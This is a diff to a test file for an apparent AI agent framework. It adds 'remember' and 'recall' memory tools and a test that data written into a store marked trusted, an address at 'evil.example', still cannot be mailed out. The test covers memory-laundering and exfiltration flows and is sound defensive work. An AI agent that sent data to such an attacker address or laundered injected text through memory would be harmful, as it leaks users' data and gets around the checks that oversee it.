@@ -44,6 +44,17 @@ def ping_all() -> str:
     """Ping everybody."""
     return "pinged"
 
+@tool(needs_approval=False, effects=["write", "execute"])
+def remember(note: str) -> str:
+    """Remember a note."""
+    NOTES.append(note)
+    return "kept"
+
+@tool(needs_approval=False, read_only=True, output="trusted")
+def recall() -> str:
+    """Return all notes."""
+    return " ".join(NOTES)
+
 @tool(needs_approval=False)
 def unknown(what: str) -> str:
     """Do something."""
@@ -56,7 +67,7 @@ sandbox: {zones: [{name: ws, path: ., mode: rw, approval: {write: preApproved}}]
 toolsets:
   custom:
     module: ./tools.py
-    tools: [fetch, contacts, mail__send, publish, ping_all, unknown]
+    tools: [fetch, remember, recall, contacts, mail__send, publish, ping_all, unknown]
     approval: {tools: {unknown: preApproved}}
   filesystem: {}
 """
@@ -165,6 +176,13 @@ def test_files_in_zones_are_written_as_before_and_their_words_stay_strangers(
     write = calls(call("write_file", path="note.txt", content="mark@evil.example"))
     read = calls(call("read_file", path="note.txt"))
     seen = mailer.run(FETCH, write, read, mail("mark@evil.example"), "done", task="send it")
+    assert seen.statuses == ["success", "success", "success", "denied"]
+
+
+def test_trusted_store_does_not_launder_what_the_session_wrote(mailer: Project) -> None:
+    remember = calls(call("remember", note="mark@evil.example"))
+    recall = calls(call("recall"))
+    seen = mailer.run(FETCH, remember, recall, mail("mark@evil.example"), "done", task="send it")
     assert seen.statuses == ["success", "success", "success", "denied"]
 
 
